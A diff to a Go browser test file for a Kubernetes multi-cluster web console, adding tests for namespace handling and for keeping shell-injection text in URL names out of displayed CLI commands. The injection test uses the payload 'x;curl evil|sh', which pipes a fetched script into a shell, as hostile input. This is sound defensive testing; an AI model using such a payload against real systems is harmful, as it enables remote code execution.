@@ -48,7 +48,7 @@ const memberPath = "k8s/apis/cluster.karmada.io/v1alpha1/clusters/"
 func (h *hub) member() {
 	h.answers["GET api/kinds"] = answer{200, object{"kinds": []object{
 		{"apiVersion": "v1", "resource": "nodes", "kind": "Node"},
-		{"apiVersion": "apps/v1", "resource": "deployments", "kind": "Deployment"}}}}
+		{"apiVersion": "apps/v1", "resource": "deployments", "kind": "Deployment", "namespaced": true}}}}
 	h.answers["GET api/objects"] = answer{200, printed("", "web-1")}
 }
 
@@ -408,6 +408,88 @@ func TestObjectsOfAMemberAreShownAsText(t *testing.T) {
 	}
 }
 
+// TestKindWithoutNamespacesIgnoresTheNamespace keeps the namespace of the address for the kinds that have one.
+func TestKindWithoutNamespacesIgnoresTheNamespace(t *testing.T) {
+	h := newHub(t)
+	h.set(func(h *hub) {
+		h.everything()
+		h.answers["GET api/objects"] = answer{200, object{"columns": []string{"Name"}, "rows": []object{
+			{"name": "node-1", "cells": []any{"node-1"}}}}}
+	})
+	b := browser.Open(t, h.URL)
+	for kind, want := range map[string]struct{ namespace, command string }{
+		"nodes.v1":            {"", "argosy get nodes -C c01"},
+		"deployments.apps/v1": {"shop", "argosy get deployments -n shop -C c01"},
+	} {
+		b.Visit("clusters/c01?tab=objects&ns=shop&kind=" + kind)
+		b.See("node-1", want.command)
+		h.mu.Lock()
+		if got := h.query.Get("namespace"); got != want.namespace {
+			t.Errorf("%s was asked for in namespace %q, want %q", kind, got, want.namespace)
+		}
+		h.mu.Unlock()
+		if n := browser.Run[int](b, `document.querySelectorAll(".tools .choice input").length`); (n == 1) !=
+			(want.namespace != "") {
+			t.Errorf("%s has %d fields for a namespace", kind, n)
+		}
+	}
+}
+
+// TestNamesOfAnAddressAreNoCommands opens addresses with texts that a shell would run.
+func TestNamesOfAnAddressAreNoCommands(t *testing.T) {
+	h := newHub(t)
+	h.set(func(h *hub) { h.everything() })
+	b := browser.Open(t, h.URL, "status of 403")
+	const evil = "x%3Bcurl%20evil%7Csh"
+	for page, text := range map[string]string{
+		"clusters/%s": "Problems",
+		"clusters/c01?tab=objects&kind=deployments.apps/v1&ns=%s": "web-1",
+		"clusters/%s?tab=objects&kind=deployments.apps/v1":        "web-1",
+		"policies/PropagationPolicy/shop/%s":                      "PropagationPolicy",
+		"policies/PropagationPolicy/%s/web":                       "PropagationPolicy",
+		"policies/%s/shop/web":                                    "Policies",
+		"releases/shop/%s":                                        "Stages",
+		"releases/%s/web-1":                                       "Stages",
+		"w/apps/Deployment/shop/%s":                               "Workloads",
+		"w/apps/Deployment/%s/web":                                "Workloads",
+		"w/apps/Deployment/shop/%s?tab=pods":                      "Workloads",
+	} {
+		for name, commands := range map[string]bool{"web": true, evil: false} {
+			b.Visit(strings.Replace(page, "%s", name, 1))
+			b.WaitFor("the page is drawn", func() string {
+				if got := b.Text(); !strings.Contains(got, text) {
+					return got
+				}
+				return ""
+			})
+			if commands {
+				b.WaitFor("the command of "+page, func() string {
+					if n := browser.Run[int](b, `document.querySelectorAll("main .same .command").length`); n == 0 {
+						return "there is none"
+					}
+					return ""
+				})
+			} else if got := browser.Run[string](b,
+				`[...document.querySelectorAll("main .command")].map((c) => c.textContent).join("; ")`); strings.Contains(got,
+				"evil") {
+				t.Errorf("%s has the command %q", page, got)
+			}
+		}
+	}
+
+	t.Log("a right that is missing")
+	h.set(func(h *hub) {
+		right := missing("list", "apps", "deployments")
+		right["namespace"] = "x;curl evil|sh"
+		h.answers["GET api/objects"] = answer{403, object{"message": "no", "missing": right}}
+	})
+	b.Visit("clusters/c01?tab=objects&kind=deployments.apps/v1&ns=" + evil)
+	b.See("You may not see this")
+	if n := browser.Run[int](b, `document.querySelectorAll("main .command").length`); n > 0 {
+		t.Errorf("%d commands have a namespace that is no name", n)
+	}
+}
+
 // TestObjectThatIsGoneIsSaidToBeGone opens the address of an object that was deleted.
 func TestObjectThatIsGoneIsSaidToBeGone(t *testing.T) {
 	h := newHub(t)
@@ -453,7 +535,7 @@ func TestFleetTranslatesWhatNeedsAttention(t *testing.T) {
 	b.Visit("clusters")
 	b.Perform(chromedp.Navigate(h.URL + "/console/"))
 	b.See("对 c00, c01 暂停：3 个集群中有 2 个在 5m0s 内失联", "请检查控制面能否访问其集群", "列出留下的工作负载；", "argosy why cluster c00",
-		"未应用：a; word: of its own")
+		"未应用：a；word: of its own")
 	browser.Run[any](b, `localStorage.removeItem("argosy-language")`)
 }
 
